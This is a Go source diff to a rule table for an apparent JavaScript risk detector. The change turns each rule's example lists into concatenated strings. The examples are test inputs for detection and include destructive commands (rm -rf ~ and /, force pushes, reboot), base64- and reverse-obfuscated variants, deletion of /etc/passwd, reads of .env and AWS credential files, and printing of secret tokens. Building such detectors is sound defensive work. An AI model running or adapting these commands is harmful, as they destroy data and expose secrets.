@@ -5,203 +5,155 @@ package code
 // and fs/promises are fs.
 var jsRules = [...]rule{
 	// ---- commands
-	{name: "child_process.exec|child_process.execSync", do: aShell, ret: rPipe, ex: []string{
-		`require("child_process").execSync("rm -rf ~/project")  => shell rm -rf ~/project`,
-		`const { execSync } = require('child_process'); execSync('git push --force origin main') => shell git push --force origin main`,
-		`const cp = require("node:child_process"); cp.exec("rm -rf /tmp/*", () => {}) => shell rm -rf /tmp/*`,
-		`import { exec as run } from "child_process"; run(` + "`rm -rf ${dir}`" + `) => shell rm -rf ${_code_value}`,
-		`import * as cp from 'node:child_process'; cp.execSync("rm " + "-rf " + "/srv") => shell rm -rf /srv`,
-		`const d = "/var/lib"; require("child_process").execSync(` + "`rm -rf ${d}/data`" + `) => shell rm -rf /var/lib/data`,
-		`require("child_"+"process")["exec"+"Sync"]("reboot") => shell reboot`,
-		`const { promisify } = require("util"); const run = promisify(require("child_process").exec); run("rm -rf build") => shell rm -rf build`,
-		`execSync(Buffer.from("cm0gLXJmIH4=", "base64").toString()) => shell rm -rf ~`,
-		`require("child_process").execSync(atob("cm0gLXJmIH4=")) => shell rm -rf ~`,
-		`require("child_process").execSync("~ fr- mr".split("").reverse().join("")) => shell rm -rf ~`,
-		`require("child_process").execSync(String.fromCharCode(114, 109) + " -rf /") => shell rm -rf /`,
-		`console.log("execSync('rm -rf /') is dangerous") !> -`,
-		`require("child_process").execSync("sh", { input: "rm -rf ~" }) => shell rm -rf ~`,
-		`// require("child_process").execSync("rm -rf /") !> -`,
-		`/* execSync("rm -rf /") */ const x = 1 !> -`,
-		`const re = /execSync\("rm -rf \/"\)/; re.test(s) !> -`,
-		`function execSync(c) {} execSync("rm -rf /") !> -`,
-		"class Cmd {\n  async exec (args) {\n    return 1\n  }\n} !> -",
-	}},
-	{name: "child_process.spawn|child_process.spawnSync|child_process.execFile|child_process.execFileSync|Bun.spawn|Bun.spawnSync|Deno.Command|Deno.run|execa|execa.execa|execa.execaSync|execaSync", do: aSpawn, ret: rPipe, ex: []string{
-		`require("child_process").spawnSync("rm", ["-rf", "/srv"]) => shell rm -rf /srv`,
-		`const { spawn } = require("child_process"); spawn("sh", ["-c", "rm -rf ~"], { stdio: "inherit" }) => shell sh -c 'rm -rf ~'`,
-		`require("child_process").spawn("rm -rf /data", { shell: true }) => shell rm -rf /data`,
-		`require("child_process").execFileSync("git", ["reset", "--hard"]) => shell git reset --hard`,
-		`Bun.spawn(["rm", "-rf", "/opt/app"]) => shell rm -rf /opt/app`,
-		`Bun.spawnSync({ cmd: ["git", "clean", "-fdx"] }) => shell git clean -fdx`,
-		`new Deno.Command("rm", { args: ["-rf", "/home/me"] }).outputSync() => shell rm -rf /home/me`,
-		`Deno.run({ cmd: ["rm", "-rf", "/var"] }) => shell rm -rf /var`,
-		`import { execa } from "execa"; await execa("rm", ["-rf", "dist"]) => shell rm -rf dist`,
-		`require("child_process").spawn("ls", ["-la"]) !> shell rm -rf /`,
-		`spawnPoint("rm -rf /") !> -`,
-	}},
-	{name: "#doShellScript", do: aShell, ret: rPipe, ex: []string{
-		`const app = Application.currentApplication(); app.includeStandardAdditions = true; app.doShellScript("rm -rf ~/Library") => shell rm -rf ~/Library`,
-		`app.displayDialog("doShellScript") !> -`,
-	}},
-	{name: "execa.execaCommand|execa.execaCommandSync|execaCommand|execaCommandSync|shelljs.exec", do: aShell, ret: rPipe, ex: []string{
-		`const shell = require("shelljs"); shell.exec("rm -rf /srv/www") => shell rm -rf /srv/www`,
-		`const shell = require("shelljs"); shell.echo("rm -rf /") !> -`,
-	}},
-	{name: "shelljs.rm", do: aCmdWords, opt: "rm", ex: []string{
-		`const sh = require("shelljs"); sh.rm("-rf", "/var/www") => shell rm -rf /var/www`,
-		`const sh = require("shelljs"); sh.ls("-la") !> -`,
-	}},
-	{name: "eval|Function|vm.runInNewContext|vm.runInThisContext|vm.runInContext|vm.Script", do: aEval, ex: []string{
-		`eval("require('fs').rmSync('/srv', {recursive: true})") => delete-r /srv`,
-		`new Function("require('child_process').execSync('reboot')")() => shell reboot`,
-		`eval(userInput) => eval userInput`,
-		`eval("1 + 1") !> eval ?`,
-		`evaluate("x") !> -`,
-	}},
+	{name: "child_process.exec|child_process.execSync", do: aShell, ret: rPipe, ex: `require("child_process").execSync("rm -rf ~/project")  => shell rm -rf ~/project` + "\n" +
+		`const { execSync } = require('child_process'); execSync('git push --force origin main') => shell git push --force origin main` + "\n" +
+		`const cp = require("node:child_process"); cp.exec("rm -rf /tmp/*", () => {}) => shell rm -rf /tmp/*` + "\n" +
+		(`import { exec as run } from "child_process"; run(` + "`rm -rf ${dir}`" + `) => shell rm -rf ${_code_value}`) + "\n" +
+		`import * as cp from 'node:child_process'; cp.execSync("rm " + "-rf " + "/srv") => shell rm -rf /srv` + "\n" +
+		(`const d = "/var/lib"; require("child_process").execSync(` + "`rm -rf ${d}/data`" + `) => shell rm -rf /var/lib/data`) + "\n" +
+		`require("child_"+"process")["exec"+"Sync"]("reboot") => shell reboot` + "\n" +
+		`const { promisify } = require("util"); const run = promisify(require("child_process").exec); run("rm -rf build") => shell rm -rf build` + "\n" +
+		`execSync(Buffer.from("cm0gLXJmIH4=", "base64").toString()) => shell rm -rf ~` + "\n" +
+		`require("child_process").execSync(atob("cm0gLXJmIH4=")) => shell rm -rf ~` + "\n" +
+		`require("child_process").execSync("~ fr- mr".split("").reverse().join("")) => shell rm -rf ~` + "\n" +
+		`require("child_process").execSync(String.fromCharCode(114, 109) + " -rf /") => shell rm -rf /` + "\n" +
+		`console.log("execSync('rm -rf /') is dangerous") !> -` + "\n" +
+		`require("child_process").execSync("sh", { input: "rm -rf ~" }) => shell rm -rf ~` + "\n" +
+		`// require("child_process").execSync("rm -rf /") !> -` + "\n" +
+		`/* execSync("rm -rf /") */ const x = 1 !> -` + "\n" +
+		`const re = /execSync\("rm -rf \/"\)/; re.test(s) !> -` + "\n" +
+		`function execSync(c) {} execSync("rm -rf /") !> -` + "\n" +
+		"class Cmd {\n  async exec (args) {\n    return 1\n  }\n} !> -\n"},
+	{name: "child_process.spawn|child_process.spawnSync|child_process.execFile|child_process.execFileSync|Bun.spawn|Bun.spawnSync|Deno.Command|Deno.run|execa|execa.execa|execa.execaSync|execaSync", do: aSpawn, ret: rPipe, ex: `require("child_process").spawnSync("rm", ["-rf", "/srv"]) => shell rm -rf /srv` + "\n" +
+		`const { spawn } = require("child_process"); spawn("sh", ["-c", "rm -rf ~"], { stdio: "inherit" }) => shell sh -c 'rm -rf ~'` + "\n" +
+		`require("child_process").spawn("rm -rf /data", { shell: true }) => shell rm -rf /data` + "\n" +
+		`require("child_process").execFileSync("git", ["reset", "--hard"]) => shell git reset --hard` + "\n" +
+		`Bun.spawn(["rm", "-rf", "/opt/app"]) => shell rm -rf /opt/app` + "\n" +
+		`Bun.spawnSync({ cmd: ["git", "clean", "-fdx"] }) => shell git clean -fdx` + "\n" +
+		`new Deno.Command("rm", { args: ["-rf", "/home/me"] }).outputSync() => shell rm -rf /home/me` + "\n" +
+		`Deno.run({ cmd: ["rm", "-rf", "/var"] }) => shell rm -rf /var` + "\n" +
+		`import { execa } from "execa"; await execa("rm", ["-rf", "dist"]) => shell rm -rf dist` + "\n" +
+		`require("child_process").spawn("ls", ["-la"]) !> shell rm -rf /` + "\n" +
+		`spawnPoint("rm -rf /") !> -` + "\n"},
+	{name: "#doShellScript", do: aShell, ret: rPipe, ex: `const app = Application.currentApplication(); app.includeStandardAdditions = true; app.doShellScript("rm -rf ~/Library") => shell rm -rf ~/Library` + "\n" +
+		`app.displayDialog("doShellScript") !> -` + "\n"},
+	{name: "execa.execaCommand|execa.execaCommandSync|execaCommand|execaCommandSync|shelljs.exec", do: aShell, ret: rPipe, ex: `const shell = require("shelljs"); shell.exec("rm -rf /srv/www") => shell rm -rf /srv/www` + "\n" +
+		`const shell = require("shelljs"); shell.echo("rm -rf /") !> -` + "\n"},
+	{name: "shelljs.rm", do: aCmdWords, opt: "rm", ex: `const sh = require("shelljs"); sh.rm("-rf", "/var/www") => shell rm -rf /var/www` + "\n" +
+		`const sh = require("shelljs"); sh.ls("-la") !> -` + "\n"},
+	{name: "eval|Function|vm.runInNewContext|vm.runInThisContext|vm.runInContext|vm.Script", do: aEval, ex: `eval("require('fs').rmSync('/srv', {recursive: true})") => delete-r /srv` + "\n" +
+		`new Function("require('child_process').execSync('reboot')")() => shell reboot` + "\n" +
+		`eval(userInput) => eval userInput` + "\n" +
+		`eval("1 + 1") !> eval ?` + "\n" +
+		`evaluate("x") !> -` + "\n"},
 
 	// ---- files
-	{name: "fs.rmSync|fs.rm|fs.rmdirSync|fs.rmdir|Deno.remove|Deno.removeSync", do: aDeleteOpt, opt: "recursive", ex: []string{
-		`require("fs").rmSync("/srv/data", { recursive: true, force: true }) => delete-r /srv/data`,
-		`const fs = require("fs"); fs.rmSync(require("os").homedir(), {recursive: true}) => delete-r ~`,
-		`import fs from "node:fs/promises"; await fs.rm(process.env.HOME + "/.ssh", { recursive: true }) => delete-r ~/.ssh`,
-		`require("fs").promises.rm("/etc", {recursive: true}) => delete-r /etc`,
-		`const path = require("path"); require("fs").rmSync(path.join(__dirname, "dist"), {recursive: true}) => delete-r {dirname(__file__)}/dist`,
-		`require("fs").rmdirSync("build", { recursive: true }) => delete-r build`,
-		`await Deno.remove("/data", { recursive: true }) => delete-r /data`,
-		`require("fs").rmSync("file.txt") => delete file.txt`,
-		`import("fs").then(f => f.rmSync("/etc", {recursive: true})) => delete-r /etc`,
-		`import("node:fs/promises").then((fs) => { return fs.rm("/srv", {recursive: true}) }) => delete-r /srv`,
-		`require("fs").rmSync("file.txt") !> delete-r file.txt`,
-		`require("fs").existsSync("/srv") !> -`,
-	}},
-	{name: "fs.unlinkSync|fs.unlink", do: aDelete, ex: []string{
-		`require("fs").unlinkSync("/etc/passwd") => delete /etc/passwd`,
-		`const fs = require("fs"); fs.readdirSync("/var/log").forEach(f => fs.unlinkSync("/var/log/" + f)) => delete /var/log/*`,
-		`const fs = require("fs"), path = require("path"); for (const f of fs.readdirSync("logs")) fs.unlinkSync(path.join("logs", f)) => delete logs/*`,
-		`require("fs").unlinkSync("a") !> delete-r a`,
-		"function clean(dir, opts = {}) { }\nconst p = '/etc/app'\nrequire('fs').unlinkSync(p) => delete /etc/app",
-	}},
-	{name: "fs.removeSync|fs.remove|fs.emptyDirSync|fs.emptyDir|fs.emptydirSync|fs.emptydir|rimraf|rimraf.sync|rimraf.rimraf|rimraf.rimrafSync|rimraf.native|rimrafSync|del|del.deleteSync|del.deleteAsync|deleteSync|deleteAsync|del.sync", do: aDeleteTree, ex: []string{
-		`require("fs-extra").removeSync("/srv/www") => delete-r /srv/www`,
-		`const fse = require("fs-extra"); fse.emptyDirSync(process.env.HOME) => delete-r ~`,
-		`const rimraf = require("rimraf"); rimraf.sync("/opt") => delete-r /opt`,
-		`import { rimraf } from "rimraf"; await rimraf("dist") => delete-r dist`,
-		`import { deleteSync } from "del"; deleteSync(["/tmp/a", "/srv/b"]) => delete-r /srv/b`,
-		`require("fs-extra").pathExistsSync("/srv") !> -`,
-	}},
-	{name: "fs.renameSync|fs.rename|fs.moveSync|fs.move|Deno.rename|Deno.renameSync", do: aMove, ex: []string{
-		`require("fs").renameSync(".git", "/tmp/g") => delete-r:move .git`,
-		`require("fs").renameSync("a", "b") !> delete-r:move b`,
-	}},
-	{name: "fs.truncateSync|fs.truncate|Deno.truncate|Deno.truncateSync", do: aWrite, ex: []string{
-		`require("fs").truncateSync(require("os").homedir() + "/.bashrc", 0) => write ~/.bashrc`,
-		`import("fs/promises").then(f => f.truncate("/etc/hosts")) => write /etc/hosts`,
-		`require("fs").ftruncateSync(fd, 0) !> write /etc/hosts`,
-	}},
-	{name: "fs.writeFileSync|fs.writeFile|fs.outputFileSync|fs.outputFile|fs.writeJsonSync|fs.writeJson|fs.writeJSONSync|fs.outputJsonSync|fs.outputJson|Deno.writeTextFile|Deno.writeTextFileSync|Deno.writeFile|Deno.writeFileSync|Bun.write", do: aWrite, ex: []string{
-		`require("fs").writeFileSync("/etc/hosts", "1.2.3.4 x") => write /etc/hosts`,
-		`require("fs").writeFileSync(require("os").homedir() + "/.bashrc", "x") => write ~/.bashrc`,
-		`await Bun.write("out.txt", "hi") => write out.txt`,
-		`require("fs").writeFileSync("env.json", JSON.stringify(process.env)) => env:file`,
-		`require("fs").readFileSync("x") !> write x`,
-	}},
-	{name: "fs.appendFileSync|fs.appendFile", do: aAppend, ex: []string{
-		`require("fs").appendFileSync(process.env.HOME + "/.zshrc", "alias x=y") => write+ ~/.zshrc`,
-		`require("fs").appendFileSync("a", "b") !> write a`,
-	}},
-	{name: "fs.createWriteStream", do: aOpen, opt: "w", ret: rFile, ex: []string{
-		`require("fs").createWriteStream("log.txt", { flags: "a" }) => write+ log.txt`,
-		`require("fs").createWriteStream("out.txt") => write out.txt`,
-		`require("fs").createReadStream("out.txt") !> write out.txt`,
-	}},
-	{name: "fs.openSync|fs.open", do: aOpen, opt: "r", ret: rFile, ex: []string{
-		`require("fs").openSync("/etc/shadow", "w") => write /etc/shadow`,
-		`require("fs").openSync("a.txt") !> write a.txt`,
-	}},
-	{name: "fs.linkSync|fs.link|fs.promises.link|Deno.link|Deno.linkSync", do: aLink, opt: "hard", ex: []string{
-		`require("fs").linkSync(".env", "src/n.txt") => read:hardlink .env`,
-		`require("fs").linkSync(".env", "src/n.txt") => create src/n.txt`,
-		`require("fs").linkSync("a", "b") !> read:hardlink b`,
-	}},
-	{name: "fs.symlinkSync|fs.symlink|fs.promises.symlink|Deno.symlink|Deno.symlinkSync", do: aLink, ex: []string{
-		`require("fs").symlinkSync("/home/u/.aws/credentials", "c") => read:link /home/u/.aws/credentials`,
-		`require("fs").symlinkSync("a", "c") !> read:link c`,
-	}},
-	{name: "fs.copyFileSync|fs.copyFile|fs.copySync|fs.copy|Deno.copyFile|Deno.copyFileSync", do: aCopy, ex: []string{
-		`require("fs").copyFileSync(process.env.HOME + "/.aws/credentials", "c.txt") => read:copy ~/.aws/credentials`,
-		`require("fs").copyFileSync("a", "/usr/local/bin/a") => write /usr/local/bin/a`,
-		`require("fs").copyFileSync("a", "b") !> delete-r:move a`,
-	}},
-	{name: "fs.cpSync|fs.cp", do: aCopyTree, ex: []string{
-		`require("fs").cpSync("dist", "/var/www", { recursive: true }) => write-r /var/www`,
-		`require("fs").cpSync("dist", "/var/www") !> delete-r:move dist`,
-	}},
-	{name: "fs.mkdirSync|fs.mkdir|fs.mkdirpSync|fs.mkdirp|fs.ensureDirSync|fs.ensureDir|Deno.mkdir|Deno.mkdirSync", do: aCreate, ex: []string{
-		`require("fs").mkdirSync("out", { recursive: true }) => create out`,
-		`require("fs").statSync("out") !> -`,
-	}},
-	{name: "fs.readFileSync|fs.readFile|fs.readJsonSync|fs.readJson|fs.readJSONSync|fs.createReadStream|Deno.readTextFile|Deno.readTextFileSync|Deno.readFile|Deno.readFileSync|Bun.file", do: aRead, ret: rContent, ex: []string{
-		`console.log(require("fs").readFileSync(".env", "utf8")) => read:show .env`,
-		`const fs = require("fs"); const s = fs.readFileSync(".env").toString(); console.log(s) => read:show .env`,
-		`require("fs").readFile(".env", "utf8", (err, data) => console.log(data)) => read:show .env`,
-		`import { readFile } from "fs/promises"; console.log(await readFile(".env", "utf8")) => read:show .env`,
-		`console.log(await Deno.readTextFile("/etc/passwd")) => read:show /etc/passwd`,
-		`console.log(await Bun.file(".env").text()) => read:show .env`,
-		`require("fs").promises.readFile(".env", "utf8").then(s => console.log(s)) => read:show .env`,
-		`require("fs").promises.readFile(".env", "utf8").then(console.log) => read:show .env`,
-		`const fs=require("fs");fs.createReadStream(".env").pipe(process.stdout) => read:show .env`,
-		`require("fs").createReadStream("a.txt").pipe(require("fs").createWriteStream("b.txt")) !> read:show a.txt`,
-		`import("fs/promises").then(f=>f.readFile(".env","utf8")).then(console.log) => read:show .env`,
-		`import("fs/promises").then(f => f.readFile("a.json", "utf8")).then(JSON.parse) !> read:show a.json`,
-		`setTimeout(() => require("fs").readFileSync("a.txt"), 10) !> read:show a.txt`,
-		`[".env"].map(f => require("fs").readFileSync(f, "utf8")).forEach(console.log) => read:show .env`,
-		`require("fs").readFileSync(".env", "utf8").split("\n").forEach(console.log) => read:show .env`,
-		`require("fs").promises.readFile("a.txt").then(JSON.parse) !> read:show a.txt`,
-		`const cfg = JSON.parse(require("fs").readFileSync("package.json")) => read package.json`,
-		`const cfg = JSON.parse(require("fs").readFileSync("package.json")) !> read:show package.json`,
-	}},
+	{name: "fs.rmSync|fs.rm|fs.rmdirSync|fs.rmdir|Deno.remove|Deno.removeSync", do: aDeleteOpt, opt: "recursive", ex: `require("fs").rmSync("/srv/data", { recursive: true, force: true }) => delete-r /srv/data` + "\n" +
+		`const fs = require("fs"); fs.rmSync(require("os").homedir(), {recursive: true}) => delete-r ~` + "\n" +
+		`import fs from "node:fs/promises"; await fs.rm(process.env.HOME + "/.ssh", { recursive: true }) => delete-r ~/.ssh` + "\n" +
+		`require("fs").promises.rm("/etc", {recursive: true}) => delete-r /etc` + "\n" +
+		`const path = require("path"); require("fs").rmSync(path.join(__dirname, "dist"), {recursive: true}) => delete-r {dirname(__file__)}/dist` + "\n" +
+		`require("fs").rmdirSync("build", { recursive: true }) => delete-r build` + "\n" +
+		`await Deno.remove("/data", { recursive: true }) => delete-r /data` + "\n" +
+		`require("fs").rmSync("file.txt") => delete file.txt` + "\n" +
+		`import("fs").then(f => f.rmSync("/etc", {recursive: true})) => delete-r /etc` + "\n" +
+		`import("node:fs/promises").then((fs) => { return fs.rm("/srv", {recursive: true}) }) => delete-r /srv` + "\n" +
+		`require("fs").rmSync("file.txt") !> delete-r file.txt` + "\n" +
+		`require("fs").existsSync("/srv") !> -` + "\n"},
+	{name: "fs.unlinkSync|fs.unlink", do: aDelete, ex: `require("fs").unlinkSync("/etc/passwd") => delete /etc/passwd` + "\n" +
+		`const fs = require("fs"); fs.readdirSync("/var/log").forEach(f => fs.unlinkSync("/var/log/" + f)) => delete /var/log/*` + "\n" +
+		`const fs = require("fs"), path = require("path"); for (const f of fs.readdirSync("logs")) fs.unlinkSync(path.join("logs", f)) => delete logs/*` + "\n" +
+		`require("fs").unlinkSync("a") !> delete-r a` + "\n" +
+		"function clean(dir, opts = {}) { }\nconst p = '/etc/app'\nrequire('fs').unlinkSync(p) => delete /etc/app\n"},
+	{name: "fs.removeSync|fs.remove|fs.emptyDirSync|fs.emptyDir|fs.emptydirSync|fs.emptydir|rimraf|rimraf.sync|rimraf.rimraf|rimraf.rimrafSync|rimraf.native|rimrafSync|del|del.deleteSync|del.deleteAsync|deleteSync|deleteAsync|del.sync", do: aDeleteTree, ex: `require("fs-extra").removeSync("/srv/www") => delete-r /srv/www` + "\n" +
+		`const fse = require("fs-extra"); fse.emptyDirSync(process.env.HOME) => delete-r ~` + "\n" +
+		`const rimraf = require("rimraf"); rimraf.sync("/opt") => delete-r /opt` + "\n" +
+		`import { rimraf } from "rimraf"; await rimraf("dist") => delete-r dist` + "\n" +
+		`import { deleteSync } from "del"; deleteSync(["/tmp/a", "/srv/b"]) => delete-r /srv/b` + "\n" +
+		`require("fs-extra").pathExistsSync("/srv") !> -` + "\n"},
+	{name: "fs.renameSync|fs.rename|fs.moveSync|fs.move|Deno.rename|Deno.renameSync", do: aMove, ex: `require("fs").renameSync(".git", "/tmp/g") => delete-r:move .git` + "\n" +
+		`require("fs").renameSync("a", "b") !> delete-r:move b` + "\n"},
+	{name: "fs.truncateSync|fs.truncate|Deno.truncate|Deno.truncateSync", do: aWrite, ex: `require("fs").truncateSync(require("os").homedir() + "/.bashrc", 0) => write ~/.bashrc` + "\n" +
+		`import("fs/promises").then(f => f.truncate("/etc/hosts")) => write /etc/hosts` + "\n" +
+		`require("fs").ftruncateSync(fd, 0) !> write /etc/hosts` + "\n"},
+	{name: "fs.writeFileSync|fs.writeFile|fs.outputFileSync|fs.outputFile|fs.writeJsonSync|fs.writeJson|fs.writeJSONSync|fs.outputJsonSync|fs.outputJson|Deno.writeTextFile|Deno.writeTextFileSync|Deno.writeFile|Deno.writeFileSync|Bun.write", do: aWrite, ex: `require("fs").writeFileSync("/etc/hosts", "1.2.3.4 x") => write /etc/hosts` + "\n" +
+		`require("fs").writeFileSync(require("os").homedir() + "/.bashrc", "x") => write ~/.bashrc` + "\n" +
+		`await Bun.write("out.txt", "hi") => write out.txt` + "\n" +
+		`require("fs").writeFileSync("env.json", JSON.stringify(process.env)) => env:file` + "\n" +
+		`require("fs").readFileSync("x") !> write x` + "\n"},
+	{name: "fs.appendFileSync|fs.appendFile", do: aAppend, ex: `require("fs").appendFileSync(process.env.HOME + "/.zshrc", "alias x=y") => write+ ~/.zshrc` + "\n" +
+		`require("fs").appendFileSync("a", "b") !> write a` + "\n"},
+	{name: "fs.createWriteStream", do: aOpen, opt: "w", ret: rFile, ex: `require("fs").createWriteStream("log.txt", { flags: "a" }) => write+ log.txt` + "\n" +
+		`require("fs").createWriteStream("out.txt") => write out.txt` + "\n" +
+		`require("fs").createReadStream("out.txt") !> write out.txt` + "\n"},
+	{name: "fs.openSync|fs.open", do: aOpen, opt: "r", ret: rFile, ex: `require("fs").openSync("/etc/shadow", "w") => write /etc/shadow` + "\n" +
+		`require("fs").openSync("a.txt") !> write a.txt` + "\n"},
+	{name: "fs.linkSync|fs.link|fs.promises.link|Deno.link|Deno.linkSync", do: aLink, opt: "hard", ex: `require("fs").linkSync(".env", "src/n.txt") => read:hardlink .env` + "\n" +
+		`require("fs").linkSync(".env", "src/n.txt") => create src/n.txt` + "\n" +
+		`require("fs").linkSync("a", "b") !> read:hardlink b` + "\n"},
+	{name: "fs.symlinkSync|fs.symlink|fs.promises.symlink|Deno.symlink|Deno.symlinkSync", do: aLink, ex: `require("fs").symlinkSync("/home/u/.aws/credentials", "c") => read:link /home/u/.aws/credentials` + "\n" +
+		`require("fs").symlinkSync("a", "c") !> read:link c` + "\n"},
+	{name: "fs.copyFileSync|fs.copyFile|fs.copySync|fs.copy|Deno.copyFile|Deno.copyFileSync", do: aCopy, ex: `require("fs").copyFileSync(process.env.HOME + "/.aws/credentials", "c.txt") => read:copy ~/.aws/credentials` + "\n" +
+		`require("fs").copyFileSync("a", "/usr/local/bin/a") => write /usr/local/bin/a` + "\n" +
+		`require("fs").copyFileSync("a", "b") !> delete-r:move a` + "\n"},
+	{name: "fs.cpSync|fs.cp", do: aCopyTree, ex: `require("fs").cpSync("dist", "/var/www", { recursive: true }) => write-r /var/www` + "\n" +
+		`require("fs").cpSync("dist", "/var/www") !> delete-r:move dist` + "\n"},
+	{name: "fs.mkdirSync|fs.mkdir|fs.mkdirpSync|fs.mkdirp|fs.ensureDirSync|fs.ensureDir|Deno.mkdir|Deno.mkdirSync", do: aCreate, ex: `require("fs").mkdirSync("out", { recursive: true }) => create out` + "\n" +
+		`require("fs").statSync("out") !> -` + "\n"},
+	{name: "fs.readFileSync|fs.readFile|fs.readJsonSync|fs.readJson|fs.readJSONSync|fs.createReadStream|Deno.readTextFile|Deno.readTextFileSync|Deno.readFile|Deno.readFileSync|Bun.file", do: aRead, ret: rContent, ex: `console.log(require("fs").readFileSync(".env", "utf8")) => read:show .env` + "\n" +
+		`const fs = require("fs"); const s = fs.readFileSync(".env").toString(); console.log(s) => read:show .env` + "\n" +
+		`require("fs").readFile(".env", "utf8", (err, data) => console.log(data)) => read:show .env` + "\n" +
+		`import { readFile } from "fs/promises"; console.log(await readFile(".env", "utf8")) => read:show .env` + "\n" +
+		`console.log(await Deno.readTextFile("/etc/passwd")) => read:show /etc/passwd` + "\n" +
+		`console.log(await Bun.file(".env").text()) => read:show .env` + "\n" +
+		`require("fs").promises.readFile(".env", "utf8").then(s => console.log(s)) => read:show .env` + "\n" +
+		`require("fs").promises.readFile(".env", "utf8").then(console.log) => read:show .env` + "\n" +
+		`const fs=require("fs");fs.createReadStream(".env").pipe(process.stdout) => read:show .env` + "\n" +
+		`require("fs").createReadStream("a.txt").pipe(require("fs").createWriteStream("b.txt")) !> read:show a.txt` + "\n" +
+		`import("fs/promises").then(f=>f.readFile(".env","utf8")).then(console.log) => read:show .env` + "\n" +
+		`import("fs/promises").then(f => f.readFile("a.json", "utf8")).then(JSON.parse) !> read:show a.json` + "\n" +
+		`setTimeout(() => require("fs").readFileSync("a.txt"), 10) !> read:show a.txt` + "\n" +
+		`[".env"].map(f => require("fs").readFileSync(f, "utf8")).forEach(console.log) => read:show .env` + "\n" +
+		`require("fs").readFileSync(".env", "utf8").split("\n").forEach(console.log) => read:show .env` + "\n" +
+		`require("fs").promises.readFile("a.txt").then(JSON.parse) !> read:show a.txt` + "\n" +
+		`const cfg = JSON.parse(require("fs").readFileSync("package.json")) => read package.json` + "\n" +
+		`const cfg = JSON.parse(require("fs").readFileSync("package.json")) !> read:show package.json` + "\n"},
 	{name: "file#text|file#json|file#arrayBuffer|file#read", ret: rContent, arg: -1},
 	{name: "fs.readdirSync|fs.readdir|Deno.readDir|Deno.readDirSync", ret: rNames},
 	{name: "glob.sync|glob.globSync|globSync|fast-glob.sync|fg.sync|glob.glob", ret: rGlob},
-	{name: "dotenv.config", do: aRead, def: ".env", ex: []string{
-		`require("dotenv").config() => read .env`,
-		`require("dotenv").config() !> read:show .env`,
-	}},
+	{name: "dotenv.config", do: aRead, def: ".env", ex: `require("dotenv").config() => read .env` + "\n" +
+		`require("dotenv").config() !> read:show .env` + "\n"},
 
 	// ---- printing and the environment
-	{name: "console.log|console.info|console.warn|console.error|console.debug|console.dir|console.table|console.trace|process.stdout.write|process.stderr.write|util.puts|print", do: aPrint, ex: []string{
-		`console.log(process.env) => env:show`,
-		`console.log(JSON.stringify(process.env, null, 2)) => env:show`,
-		`console.table(Object.entries(process.env)) => env:show`,
-		`Object.entries(process.env).forEach(([k, v]) => console.log(k + "=" + v)) => env:show`,
-		`for (const k in process.env) console.log(k, process.env[k]) => env:show`,
-		`for (const [k, v] of Object.entries(process.env)) console.log(` + "`${k}=${v}`" + `) => env:show`,
-		`const { env } = process; console.log(env) => env:show`,
-		`console.log({ ...process.env }) => env:show`,
-		`console.log(Deno.env.toObject()) => env:show`,
-		`console.log(Bun.env) => env:show`,
-		`process.stdout.write(JSON.stringify(process.env)) => env:show`,
-		`console.log(process.env.GITHUB_TOKEN) => var:show GITHUB_TOKEN`,
-		`console.log(process.env["NPM_TOKEN"]) => var:show NPM_TOKEN`,
-		`console.log(Deno.env.get("AWS_SECRET_ACCESS_KEY")) => var:show AWS_SECRET_ACCESS_KEY`,
-		`console.log(process.env.NODE_ENV) !> env:show`,
-		`console.log(Object.keys(process.env)) !> env:show`,
-		`for (const k in process.env) console.log(k) !> env:show`,
-		`const env = { ...process.env, CI: "1" }; require("child_process").execSync("make", { env }) !> env:show`,
-		`console.log("hello") !> -`,
-	}},
+	{name: "console.log|console.info|console.warn|console.error|console.debug|console.dir|console.table|console.trace|process.stdout.write|process.stderr.write|util.puts|print", do: aPrint, ex: `console.log(process.env) => env:show` + "\n" +
+		`console.log(JSON.stringify(process.env, null, 2)) => env:show` + "\n" +
+		`console.table(Object.entries(process.env)) => env:show` + "\n" +
+		`Object.entries(process.env).forEach(([k, v]) => console.log(k + "=" + v)) => env:show` + "\n" +
+		`for (const k in process.env) console.log(k, process.env[k]) => env:show` + "\n" +
+		(`for (const [k, v] of Object.entries(process.env)) console.log(` + "`${k}=${v}`" + `) => env:show`) + "\n" +
+		`const { env } = process; console.log(env) => env:show` + "\n" +
+		`console.log({ ...process.env }) => env:show` + "\n" +
+		`console.log(Deno.env.toObject()) => env:show` + "\n" +
+		`console.log(Bun.env) => env:show` + "\n" +
+		`process.stdout.write(JSON.stringify(process.env)) => env:show` + "\n" +
+		`console.log(process.env.GITHUB_TOKEN) => var:show GITHUB_TOKEN` + "\n" +
+		`console.log(process.env["NPM_TOKEN"]) => var:show NPM_TOKEN` + "\n" +
+		`console.log(Deno.env.get("AWS_SECRET_ACCESS_KEY")) => var:show AWS_SECRET_ACCESS_KEY` + "\n" +
+		`console.log(process.env.NODE_ENV) !> env:show` + "\n" +
+		`console.log(Object.keys(process.env)) !> env:show` + "\n" +
+		`for (const k in process.env) console.log(k) !> env:show` + "\n" +
+		`const env = { ...process.env, CI: "1" }; require("child_process").execSync("make", { env }) !> env:show` + "\n" +
+		`console.log("hello") !> -` + "\n"},
 	{name: "Deno.env.toObject", ret: rEnv},
 	{name: "Deno.env.get", ret: rVar},
 	{name: "Object.keys", ret: rKeys},
 	{name: "Object.entries|Object.values", ret: rNone},
 
 	// ---- values
-	{name: "require", do: aLoad, opt: "rel", ret: rModule, ex: []string{
-		`require("./scripts/clean") => load ./scripts/clean`,
-		`import "./setup.js" => load ./setup.js`,
-		`import { run } from "../lib/run.mjs"; run() => load ../lib/run.mjs`,
-		`require("fs") !> load fs`,
-	}},
+	{name: "require", do: aLoad, opt: "rel", ret: rModule, ex: `require("./scripts/clean") => load ./scripts/clean` + "\n" +
+		`import "./setup.js" => load ./setup.js` + "\n" +
+		`import { run } from "../lib/run.mjs"; run() => load ../lib/run.mjs` + "\n" +
+		`require("fs") !> load fs` + "\n"},
 	{name: "path.join|path.resolve|path.posix.join|path.posix.resolve|upath.join", ret: rJoin},
 	{name: "path.dirname", ret: rDirname},
 	{name: "path.basename", ret: rBasename},
@@ -209,10 +161,8 @@ var jsRules = [...]rule{
 	{name: "os.tmpdir", ret: rTmp},
 	{name: "process.cwd|Deno.cwd", ret: rCwd},
 	{name: "fs.mkdtempSync|fs.mkdtemp|Deno.makeTempDir|Deno.makeTempDirSync", ret: rTmpDir},
-	{name: "process.chdir|Deno.chdir", do: aChdir, ex: []string{
